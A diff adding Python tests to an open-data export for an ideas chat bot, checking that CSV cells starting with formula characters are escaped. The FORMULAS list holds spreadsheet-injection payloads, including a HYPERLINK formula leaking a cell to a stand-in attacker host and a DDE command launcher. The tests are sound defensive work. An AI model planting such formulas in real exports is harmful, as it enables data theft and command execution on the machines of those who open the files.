@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import json
+from collections.abc import Callable
 from datetime import datetime, timedelta
 from pathlib import Path
 from typing import Any
@@ -20,13 +21,16 @@ from bot.admin.open_data import (
     run_open_data_export,
     write_atomically,
 )
+from bot.admin.spreadsheet import safe_cell
 from bot.app import App
 from bot.settings import Settings
 from storage.clock import utcnow
 from storage.ideas.ideas import IdeaStatus
 from storage.news.broadcasts import Audience, AudienceKind
 from storage.privacy.personal import Cause, ContentChoice
+from tests.handlers.ideas.helpers import submit_idea
 from tests.privacy import Neighbours, seed_neighbours
+from tests.support import Chat
 
 REMOVED_TITLE = "Qzxverwijderd idee over niks"
 SIGNER = "Carla Verbindt-Handtekening"
@@ -250,3 +254,45 @@ def test_the_command_writes_the_export(
     (tmp_path / "other" / "x.txt").write_text("x")
     assert main(["export-open-data", "--out", str(tmp_path / "other")]) == 2
     assert "not an earlier export" in capsys.readouterr().err
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?d="&A1, "Klik hier voor de uitslag")',
+    "+31 6 12345678 bellen",
+    "-2+3 bankjes erbij",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1 verstopt achter een tab",
+    "\r=1+1 verstopt achter een regelterugloop",
+]
+
+
+@pytest.mark.parametrize("title", FORMULAS, ids=["=", "+", "-", "@", "tab", "cr"])
+async def test_a_title_that_looks_like_a_formula_is_text_in_the_csv_and_verbatim_in_json(
+    app: App, chat: Callable[..., Chat], tmp_path: Path, title: str
+) -> None:
+    anna = chat("anna")
+    await anna.onboard()
+    await submit_idea(anna, title, "=1+1 en de rest van de beschrijving van het idee")
+    out = tmp_path / "od"
+    await export_open_data(app, out, utcnow())
+
+    stored = title.strip()  # the chat trims what people type; the formula stays
+    header, rows = read_csv(out / "ideas.csv")
+    idea = dict(zip(header, rows[0], strict=True))
+    assert idea["title"] == f"'{stored}"
+    assert idea["text"].startswith("'=1+1 en de rest")
+    assert int(idea["number"]) >= 1 and idea["submitted_at"][0].isdigit(), "numbers as they are"
+    (json_idea,) = read_json(out / "ideas.json")
+    assert json_idea["title"] == stored and json_idea["text"].startswith("=1+1")
+    for path in out.glob("*.csv"):
+        for row in read_csv(path)[1]:
+            for cell in row:
+                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (path.name, cell)
+
+
+def test_every_formula_start_is_guarded_in_a_cell_and_numbers_stay_numbers() -> None:
+    for text in FORMULAS:
+        assert safe_cell(text) == f"'{text}"
+    assert safe_cell("Meer bankjes = meer rust") == "Meer bankjes = meer rust"
+    assert safe_cell("'al tekst") == "'al tekst"
+    assert safe_cell(-3) == -3 and safe_cell("") == "" and safe_cell(None) is None
